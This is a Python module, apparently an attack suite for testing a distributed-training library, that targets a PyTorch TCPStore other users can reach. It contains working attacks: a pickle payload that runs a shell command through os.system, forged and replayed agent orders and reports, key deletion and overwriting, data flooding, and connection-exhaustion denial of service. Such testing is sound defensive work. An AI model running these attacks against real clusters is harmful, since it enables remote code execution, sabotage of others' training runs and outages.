"""What somebody can do who reaches the port of another user's store: one function each.

Every attack takes the store's host and port, and some a word more; it returns what it did. Nothing
here knows the run's secret, or any file of it: only what the network gives away.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import pickle
import resource
import socket
from collections import deque
from collections.abc import Callable, Iterator
from datetime import timedelta
from functools import cache
from typing import Any

TIMEOUT_S = 3
FLOOD_KEYS, FLOOD_VALUE = 2000, b"x" * 50_000
WORDS = ((b'"run"', b'"end"'), (b'"failed"', b'"done"'), (b'"launch":0', b'"launch":1'))
"""What to change in a message into what."""
_seen: deque[dict[str, bytes]] = deque(maxlen=4)
"""What stores have held when an attack looked, those of earlier runs among them."""
_held: list[socket.socket] = []
"""Connections that stay open until `let_go`."""


@cache
def connect(host: str, port: int) -> Any:
    from torch.distributed import TCPStore

    return TCPStore(
        host, port, wait_for_workers=False, timeout=timedelta(seconds=TIMEOUT_S), use_libuv=True
    )


def contents(host: str, port: int) -> dict[str, bytes]:
    """Every key and its value, also of those whose names are secret."""
    store = connect(host, port)
    found = {}
    for key in store.list_keys():
        with contextlib.suppress(RuntimeError):  # deleted in the meantime
            found[key] = bytes(store.get(key))
    _seen.append(found)
    return found


def look(host: str, port: int) -> Any:
    return {
        key: value[:200].decode(errors="replace") for key, value in contents(host, port).items()
    }


# Code in what torch's rendezvous reads


class _Planted:
    def __init__(self, marker: str) -> None:
        self.command = f"id -un >>{marker}"

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (self.command,)


def plant_pickle(host: str, port: int, marker: str) -> int:
    """Whoever loads one runs a command; in every form in which the rendezvous's state may lie."""
    store, code = connect(host, port), pickle.dumps(_Planted(marker))
    planted = 0
    for key, value in contents(host, port).items():
        if (form := _with_pickle(value, code)) is not None or "rendezvous" in key:
            store.set(key, form or base64.b64encode(code))
            planted += 1
    return planted


def _with_pickle(value: bytes, code: bytes) -> bytes | None:
    """The value with its pickle replaced, and all around it as it was; None: it has none."""
    if (at := value.find(b"\x80\x04\x95")) >= 0:
        return value[:at] + code
    for start in (0, *(n + 1 for n, byte in enumerate(value) if not chr(byte).isalnum())):
        if value[start:].startswith((b"gASV", b"gAWV")):
            return value[:start] + base64.b64encode(code)
    return None


# Forged and replayed messages of fsdpkit's agents


def forge_end(host: str, port: int) -> int:
    """Order all agents to end, as if the training were done."""
    return _order(host, port, {"do": "end", "status": 0})


def forge_orders(host: str, port: int) -> int:
    """Orders that start, stop and confuse."""
    orders: list[Any] = [
        {"do": "stop"},
        {"do": "run", "launch": 7, "nodes": [1]},
        {"do": "run", "launch": -1, "nodes": []},
        {"do": "end", "status": 9, "because": "crash", "message": "you are hacked"},
        {"do": "dance"},
        [],
        "\x00",
    ]
    return sum(_order(host, port, order) for order in orders)


def _order(host: str, port: int, order: Any) -> int:
    store = connect(host, port)
    number = store.add("fsdpkit/published", 1)
    store.set(f"fsdpkit/order/{number}", json.dumps(order))
    store.add("fsdpkit/orders", 1)
    return 1


def forge_reports(host: str, port: int) -> int:
    """Reports that all ranks are done, that they failed, and that are no reports."""
    store, told = connect(host, port), 0
    for launch in range(3):
        for node in range(3):
            for outcome in ("done", "failed"):
                report = {"launch": launch, "node": node, "name": "node1", "outcome": outcome}
                store.append("fsdpkit/reports", json.dumps(report) + "\n")
                told += 1
    return told


def forge_nonsense(host: str, port: int) -> int:
    """Lines that are no reports, among them."""
    store = connect(host, port)
    lines = ("{}\n", "\n", "\xff\n", '{"launch": 1e999}\n', "[" * 5000 + "\n", "no end of line")
    for line in lines:
        store.append("fsdpkit/reports", line)
    return len(lines)


def forge_counters(host: str, port: int) -> int:
    """Orders that are announced and do not exist, and nodes that seem alive."""
    store, changed = connect(host, port), 0
    for key, value in contents(host, port).items():
        if value.strip().isdigit():
            store.add(key, 1000)
            changed += 1
    return changed


def replay(host: str, port: int) -> int:
    """All that stores held earlier once more, and each numbered message, as it was and with a word
    changed, under later numbers."""
    store, sent = connect(host, port), 0
    now = contents(host, port)
    for key, value in [message for earlier in _seen for message in earlier.items()]:
        name, _, number = key.rpartition("/")
        if value.strip().isdigit() or not value:
            continue
        if not number.isdigit():
            store.append(key, value)
            sent += 1
            continue
        for later, pair in enumerate(((b"", b""), *WORDS), start=1):
            if (new := f"{name}/{int(number) + later}") not in now:
                store.set(new, value.replace(*pair))
                sent += 1
    for key, value in now.items():
        if value.strip().isdigit():
            store.add(key, 1)
    return sent


def mutate(host: str, port: int) -> int:
    """Each message as it is but for one thing: a word, a bit, its end, its place."""
    store, sent = connect(host, port), 0
    messages = {k: v for k, v in contents(host, port).items() if not v.strip().isdigit() and v}
    for key, value in messages.items():
        middle = len(value) // 2
        flipped = value[:middle] + bytes([value[middle] ^ 1]) + value[middle + 1 :]
        forms = [value.replace(*pair) for pair in WORDS] + [flipped, value[:middle], value * 2]
        for form in forms:
            store.set(key, form)
            sent += 1
    return sent


def exchange(host: str, port: int) -> int:
    """Every message in another's place: a report as an order, one node's as another's."""
    store = connect(host, port)
    found = [(k, v) for k, v in contents(host, port).items() if not v.strip().isdigit()]
    for (key, _), (_, value) in zip(found, found[1:] + found[:1], strict=True):
        store.set(key, value)
    return len(found)


# Force


def delete(host: str, port: int) -> int:
    store = connect(host, port)
    return sum(store.delete_key(key) for key in contents(host, port))


def overwrite(host: str, port: int) -> int:
    """Noise in every key."""
    store = connect(host, port)
    keys = [*contents(host, port)]
    for key in keys:
        store.set(key, os.urandom(64))
    return len(keys)


def flood(host: str, port: int) -> int:
    """A hundred megabytes in two thousand keys, and more behind every key that grows."""
    store = connect(host, port)
    for key, value in contents(host, port).items():
        if not value.strip().isdigit():
            store.append(key, FLOOD_VALUE)
    for number in range(FLOOD_KEYS):
        store.set(f"flood/{number}", FLOOD_VALUE)
    return FLOOD_KEYS


# Below the store


def idle(host: str, port: int, count: str = "2000") -> int:
    """Connections that say nothing."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    opened = 0
    with contextlib.suppress(OSError):
        for _ in range(int(count)):
            _held.append(_open(host, port))
            opened += 1
    return opened


def slow(host: str, port: int) -> int:
    """Requests of which half is sent, and an announcement of a string without end."""
    for sent in _half_requests():
        for _ in range(5):
            connection = _open(host, port)
            connection.sendall(sent)
            _held.append(connection)
    return len(_held)


def _half_requests() -> Iterator[bytes]:
    hello = bytes([0]) + (0x3C85F7CE).to_bytes(4, "little")  # torch's own, checked first
    yield hello[:3]
    for request in range(1, 16):
        yield hello + bytes([request])
        yield hello + bytes([request]) + (2**63 - 1).to_bytes(8, "little") + b"key"


def noise(host: str, port: int) -> int:
    """Bytes of no protocol, and of others."""
    words = [os.urandom(4096), b"GET / HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00", b"\xff" * 65536]
    for sent in words * 5:
        with contextlib.suppress(OSError), _open(host, port) as connection:
            connection.sendall(sent)
    return len(words) * 5


def let_go(_host: str, _port: int) -> int:
    count = len(_held)
    while _held:
        _held.pop().close()
    return count


def _open(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=TIMEOUT_S)


def reaches(host: str, port: int) -> bool:
    with contextlib.suppress(OSError), _open(host, port):
        return True
    return False


ATTACKS: dict[str, Callable[..., Any]] = {
    attack.__name__: attack
    for attack in (
        *(look, plant_pickle, forge_end, forge_orders, forge_reports, forge_nonsense),
        *(forge_counters, replay, mutate, exchange, delete, overwrite, flood),
        *(idle, slow, noise, let_go, reaches),
    )
}
